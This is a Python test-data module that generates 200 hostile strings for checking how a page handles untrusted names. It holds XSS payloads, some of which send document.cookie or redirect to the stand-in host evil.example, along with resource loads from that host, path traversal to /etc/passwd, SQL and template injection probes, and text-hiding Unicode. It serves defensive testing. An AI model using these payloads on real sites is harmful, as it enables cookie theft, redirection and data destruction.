"""Names that mean harm to a page: markup, scripts, templates, style, addresses elsewhere, and letters that hide or turn text."""

from __future__ import annotations

from itertools import islice
from itertools import product as pairs

CALLS = ("alert(1)", "confirm`1`", "prompt(document.cookie)", "fetch('//evil.example/')", "location='//evil.example/'")
SHAPES = (
    "<script>{}</script>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    '<svg onload="{}">',
    "</title><script>{}</script>",
    "</desc></svg><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "javascript:{}",
    '" onmouseover="{}" x="',
    "' autofocus onfocus={} '",
    "<details open ontoggle={}>",
    "<body onpageshow={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<math><mi//xlink:href='javascript:{}'>",
    "<a href=javascript:{}>x</a>",
    "<form action=javascript:{}><button>x",
    "<input onfocus={} autofocus>",
    "<video><source onerror={}>",
    "<object data=javascript:{}>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "<ScRiPt >{}</sCrIpT >",
    "<scr<script>ipt>{}</script>",
    "\\u003cscript\\u003e{}",
    "{{{{ {} }}}}",
    "{{% raw %}}{}",
    "${{{}}}",
    "`;{};//",
    "';{};//",
    '";{};//',
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><script>{}</script>'>",
)
OTHERS = (
    "<img src=//evil.example/x.png>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<script src=https://evil.example/x.js></script>",
    "<iframe src=https://evil.example></iframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<style>@import url(//evil.example/x.css);</style>",
    "red; background: url(//evil.example/x.png)",
    "var(--ink); } body { display: none } .x {",
    "url(https://evil.example/x.svg#a)",
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "a%00b",
    "a?b=c&d=e#f",
    "a;b,c:d@e",
    "%s%s%n",
    "{0.__class__}",
    "{{7*7}}",
    "#{7*7}",
    "<%= 7*7 %>",
    "\u202egnp.exe",
    "a\u2066b\u2069",
    "zero\u200bwidth\ufeff",
    "e\u0301" * 20,
    "\U0001f600\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "العربية עברית",
    "漢字かな",
    "=HYPERLINK(1)",
    "-- ; DROP TABLE study; --",
    "' OR '1'='1",
    "x" * 90,
    "a b  c",
    "\"'<>&",
    "&amp;&#x3c;",
    "NULL",
    "__proto__",
    "constructor",
    "true",
    "0",
    "-1",
)


def hostile_names(number: int = 200) -> list[str]:
    """So many different ones."""
    made = [shape.format(call) for call, shape in pairs(CALLS, SHAPES)]
    found = list(islice(dict.fromkeys([*OTHERS, *made]), number))
    assert len(found) == number
    return found
